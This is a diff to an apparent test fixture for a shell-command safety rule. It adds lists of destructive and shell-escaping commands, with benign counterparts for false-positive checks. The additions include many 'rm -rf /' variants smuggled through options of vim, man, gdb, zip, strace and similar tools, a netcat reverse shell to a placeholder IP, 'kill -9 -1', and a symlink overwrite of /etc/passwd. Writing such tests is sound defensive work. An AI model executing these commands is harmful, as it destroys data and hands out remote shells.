@@ -199,6 +199,28 @@ ATTACKS: dict[str, list[str]] = {
         "gsed 's/x/id/e' f",
         "sed --expression='1e id' f",
     ],
+    "programs whose options carry a command": [
+        "enable -f /tmp/x.so evil; evil",
+        "mapfile -C 'rm -rf /' -c 1 < f",
+        "readarray -C'rm -rf /' -c 1 < f",
+        "vim -c ':!rm -rf /' x",
+        "vim '+!rm -rf /' x",
+        "nvim --cmd '!rm -rf /'",
+        "man -P 'rm -rf /' ls",
+        "man --pager='rm -rf /' ls",
+        "gdb -batch -ex 'shell rm -rf /'",
+        "tcpdump -z 'rm -rf /' -G 1 -w x",
+        "zip -TT 'rm -rf /' a.zip x",
+        "zip --unzip-command='rm -rf /' -T a.zip x",
+        "nc -e /bin/sh 1.2.3.4 1",
+        "ncat -c 'rm -rf /' 1.2.3.4 1",
+        "socat - exec:'rm -rf /'",
+        "socat - SYSTEM:'rm -rf /'",
+        "strace -o '|rm -rf /' ls",
+        "make --eval='$(shell rm -rf /)'",
+        "emacs --batch --eval '(shell-command \"rm -rf /\")'",
+        "less '+!rm -rf /' x",
+    ],
     "gtar and bsdtar": [
         "gtar -cf /dev/sda x",
         "bsdtar -cf /dev/sda x",
@@ -279,6 +301,10 @@ SANDBOX: list[str] = [
     "curl -o page.html http://example.com",
     "pytest -q",
     "cargo run",
+    "kill -9 -1",
+    "ln -sf /etc/passwd x; echo hacked > x",
+    "python3 -m http.server",
+    "git commit -m x",  # runs the repository's hooks
 ]
 
 #: Everyday commands both rules allow (the false-positive table).
@@ -333,6 +359,11 @@ LEGIT: list[str] = [
     "echo 'a $HOME literal'",
     "git log --format='%h %s' -3",
     "grep -c x file.txt || true",
+    "vim +10 notes.txt",
+    "man ls",
+    "make -j4",
+    "less +G log.txt",
+    "strace -o trace.txt ls",
 ]
 
 #: The allow-list the strict rule is built with: generous on purpose, so strictness comes
@@ -344,5 +375,6 @@ ALLOWED = frozenset(
     | {"chown", "fd", "rsync", "busybox", "stdbuf", "nodejs", "node18", "ruby3.1", "php8.2", "lua5.4", "pypy3.10"}
     | {"perl5.36.0", "tclsh8.6", "python3.11", "/usr/bin/python3.12", "luajit-2.1", "/usr/bin/gtar", "zsh", "tclsh"}
     | {"npm", "pytest", "cargo", "curl", "./configure", "set", "exec", "hash", "trap", "eval", "declare", "unset"}
-    | {"read", "let", "export", "builtin", "command", "coproc", "time", "source", ".", "f", "X"}
+    | {"read", "let", "export", "builtin", "command", "coproc", "time", "source", ".", "f", "X", "enable", "mapfile"}
+    | {"readarray", "vim", "nvim", "man", "gdb", "tcpdump", "zip", "nc", "ncat", "socat", "strace", "emacs", "less"}
 )
